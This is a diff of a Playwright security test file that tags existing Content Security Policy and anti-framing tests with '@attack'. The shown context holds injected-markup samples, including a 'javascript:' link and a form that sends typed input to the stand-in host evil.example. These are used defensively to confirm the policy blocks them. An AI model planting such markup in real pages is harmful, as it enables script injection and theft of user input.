@@ -4,6 +4,8 @@ import { type Browser, expect, type Page, test } from '@playwright/test'
 
 // What somebody would try who got markup into a page or the page into a frame; each is seen to work without the policy.
 
+const attack = { tag: '@attack' }
+
 /** A page that counts as hit once `window.hit` is there; the evil site answers everybody. */
 async function open(browser: Browser, bypassCSP: boolean, markup = '') {
   const context = await browser.newContext({ bypassCSP, serviceWorkers: 'block' })
@@ -37,7 +39,7 @@ const markups = {
   'a link of javascript': '<a id="press" href="javascript:void(window.hit = 1)">press</a>',
 }
 for (const [what, markup] of Object.entries(markups)) {
-  test(`${what} in the page does nothing`, async ({ browser }) => {
+  test(`${what} in the page does nothing`, attack, async ({ browser }) => {
     for (const bypassed of [true, false]) {
       const page = await open(browser, bypassed, markup)
       const link = page.locator('#press')
@@ -92,7 +94,7 @@ const deeds: Record<string, () => boolean | Promise<boolean>> = {
   },
 }
 for (const [what, deed] of Object.entries(deeds)) {
-  test(`a script cannot ${what}`, async ({ browser }) => {
+  test(`a script cannot ${what}`, attack, async ({ browser }) => {
     for (const bypassed of [true, false]) {
       const page = await open(browser, bypassed)
       expect(await page.evaluate(deed).catch(() => false)).toBe(bypassed)
@@ -101,7 +103,7 @@ for (const [what, deed] of Object.entries(deeds)) {
   })
 }
 
-test('a form does not send what was typed to another site', async ({ browser }) => {
+test('a form does not send what was typed to another site', attack, async ({ browser }) => {
   const form = '<form action="https://evil.example/"><button id="press">Sign in</button></form>'
   for (const bypassed of [true, false]) {
     const page = await open(browser, bypassed, form)
@@ -115,7 +117,7 @@ test('a form does not send what was typed to another site', async ({ browser }) 
   }
 })
 
-test('no site can show a page of this one in a frame', async ({ page, baseURL }) => {
+test('no site can show a page of this one in a frame', attack, async ({ page, baseURL }) => {
   const server = createServer((_, response) => {
     response.setHeader('content-type', 'text/html')
     const frame = (path: string) => `<iframe src="${baseURL}${path}"></iframe>`
